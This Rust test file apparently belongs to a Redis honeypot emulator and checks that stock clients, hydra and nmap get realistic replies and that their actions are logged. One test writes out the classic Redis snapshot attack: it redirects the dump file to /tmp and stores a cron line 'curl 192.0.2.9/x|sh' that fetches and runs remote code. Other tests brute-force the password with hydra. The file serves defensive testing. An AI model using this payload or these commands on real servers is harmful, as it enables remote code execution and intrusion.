//! Redis, driven by stock clients.

mod stand;

use serde_json::json;
use stand::Stand;

fn redis() -> Stand {
    Stand::new("redis", json!({"bait": false, "enable_protected_configs": true}))
}

#[test]
fn redis_cli_stores_and_reads() {
    let redis = redis();
    let said = redis.sh(r"redis-cli -p {port} <<'LINES'
set greeting hello
get greeting
incr hits
lpush jobs a b
lrange jobs 0 -1
hello 3
LINES");
    assert!(
        said.starts_with("OK\nhello\n1\n2\nb\na\nserver redis\nversion 7.0.15\nproto 3\n"),
        "{said}"
    );
    let command = redis.told("command", "command", "set greeting hello");
    assert_eq!(command.fields["args"], json!(["greeting", "hello"]));
    assert!(command.src.is_some());
    redis.told("key_write", "key", "greeting");
}

#[test]
fn scanning_clients_see_every_key() {
    let redis = redis();
    redis.sh("for i in $(seq 300); do echo set key:$i $i; done | redis-cli -p {port}");
    let keys = redis.sh("redis-cli -p {port} --scan | sort -u | wc -l");
    assert_eq!(keys.trim(), "300");
    let report = redis.sh("redis-cli -p {port} --bigkeys");
    assert!(report.contains("300 strings with"), "{report}");
    let three = redis.sh("redis-cli -3 -p {port} config get maxmemory-policy");
    assert!(three.contains("noeviction"), "{three}");
}

#[test]
fn a_planted_snapshot_lands_in_the_file_system_and_is_kept() {
    let redis = redis();
    let target = redis.root.path().join("tmp");
    let said = redis.sh(r#"redis-cli -p {port} <<'LINES'
config set dir /tmp
config set dbfilename job
set x "\n\n* * * * * root curl 192.0.2.9/x|sh\n\n"
config set rdbcompression no
save
LINES"#);
    assert_eq!(said, "OK\nOK\nOK\nOK\nOK\n");
    let bytes = std::fs::read(target.join("job")).unwrap();
    assert!(bytes.starts_with(b"REDIS0010"));
    let payload: &[u8] = b"\n\n* * * * * root curl 192.0.2.9/x|sh\n\n";
    assert!(bytes.windows(payload.len()).any(|window| window == payload));
    let written = redis.told("file_write", "path", "/tmp/job");
    assert_eq!(redis.blob(written.text("sha256").unwrap()), bytes);
    redis.told("cfg_set", "name", "dir");
}

#[test]
fn a_folder_that_is_not_there_is_refused_as_redis_refuses_it() {
    let redis = redis();
    let said = redis.sh("redis-cli -p {port} config set dir /nowhere");
    assert_eq!(
        said.trim(),
        "ERR CONFIG SET failed (possibly related to argument 'dir') - No such file or directory"
    );
}

#[test]
fn a_replica_is_told_of_and_never_connects() {
    let redis = redis();
    let said = redis.sh("redis-cli -p {port} slaveof 192.0.2.66 6380; redis-cli -p {port} info replication; redis-cli -p {port} set a b");
    assert!(
        said.contains("role:slave") && said.contains("master_link_status:down"),
        "{said}"
    );
    assert!(
        said.ends_with("READONLY You can't write against a read only replica.\n\n"),
        "{said}"
    );
    let told = redis.told("replica_of", "host", "192.0.2.66");
    assert_eq!(told.fields["port"], 6380);
}

#[test]
fn every_try_at_the_password_is_told_with_its_outcome() {
    let redis = Stand::new("redis", json!({"password": "s3cret", "bait": false}));
    let said = redis.sh("redis-cli -p {port} get a; redis-cli -p {port} auth wrong; redis-cli --no-auth-warning -a s3cret -p {port} ping");
    assert!(
        said.contains("NOAUTH Authentication required.") && said.ends_with("PONG\n"),
        "{said}"
    );
    assert!(
        said.contains("WRONGPASS invalid username-password pair or user is disabled."),
        "{said}"
    );
    let wrong = redis.told("auth_attempt", "secret_printable", "wrong");
    assert_eq!(wrong.fields["outcome"], "failure");
    assert_eq!(
        redis.told("auth_attempt", "secret_printable", "s3cret").fields["outcome"],
        "success"
    );
}

#[test]
fn hydra_finds_the_password() {
    let redis = Stand::new("redis", json!({"password": "s3cret", "bait": false}));
    let found =
        redis.sh("printf 'a\nb\ns3cret\nc\n' > {root}/p && hydra -t 4 -s {port} -P {root}/p 127.0.0.1 redis 2>&1");
    assert!(found.contains("password: s3cret"), "{found}");
}

#[test]
fn nmap_names_the_product() {
    let redis = redis();
    let seen = redis.sh("nmap -Pn -sV -p {port} --script redis-info 127.0.0.1");
    assert!(seen.contains("Redis key-value store 7.0.15"), "{seen}");
    assert!(
        seen.contains("Architecture: 64 bits") && seen.contains("Role: master"),
        "{seen}"
    );
}

#[test]
fn a_monitor_sees_what_others_do_and_a_subscriber_hears_it() {
    let redis = redis();
    let heard = redis.sh(
        "timeout 3 redis-cli -p {port} monitor > {root}/m & timeout 3 redis-cli -p {port} subscribe news > {root}/s & \
         for i in $(seq 50); do grep -q OK {root}/m && grep -q subscribe {root}/s && break; read -t 0.1 < <(:); done; \
         redis-cli -p {port} publish news 'it works' >/dev/null; wait; cat {root}/m {root}/s",
    );
    assert!(heard.contains("\"publish\" \"news\" \"it works\""), "{heard}");
    assert!(heard.contains("message\nnews\nit works"), "{heard}");
}

#[test]
fn garbage_is_answered_as_redis_answers_it_and_told() {
    let redis = redis();
    assert_eq!(
        redis.say(b"*1\r\n:1\r\n"),
        "-ERR Protocol error: expected '$', got ':'\r\n"
    );
    assert_eq!(
        redis.say(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        "",
        "a web request is cut off at its second line"
    );
    redis.told("protocol_error", "reason", "expected '$', got ':'");
}
